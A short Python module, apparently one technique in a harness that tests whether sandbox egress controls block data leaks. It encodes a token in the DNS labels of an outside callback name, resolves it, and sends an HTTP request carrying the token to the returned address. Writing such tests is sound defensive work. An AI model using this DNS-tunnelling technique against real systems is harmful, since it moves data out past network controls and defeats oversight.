"""The simplest way out, and the one that most walls leave open: any name is resolved for whoever asks."""

from typing import Any

from space_evaluate.inside import Case
from space_evaluate.technique import BOTH, Technique

TECHNIQUE = Technique(
    tries="Resolve the attacker's name, with data in its labels, and connect to what comes back.",
    claim="E3",
    defences=("names: canon", "verdicts: every layer, every reading"),
    stopped_by=("name_not_allowed", "no_policy"),
    policies=BOTH,
    variants={
        "the name": "{callback}",
        "data in labels": "{token}.data.{callback}",
        "in capitals": "{token}.CALLBACK.example.net",
        "long": "{long}.{callback}",
    },
    quick=True,
)


def attack(case: Case, what: Any) -> None:
    name = what.format(callback=case.ground.callback, token=case.token, long=".".join(["x" * 60] * 3))
    answer = case.query(name)
    if answer is not None and answer["addresses"]:
        case.http(name, f"/{case.token}")
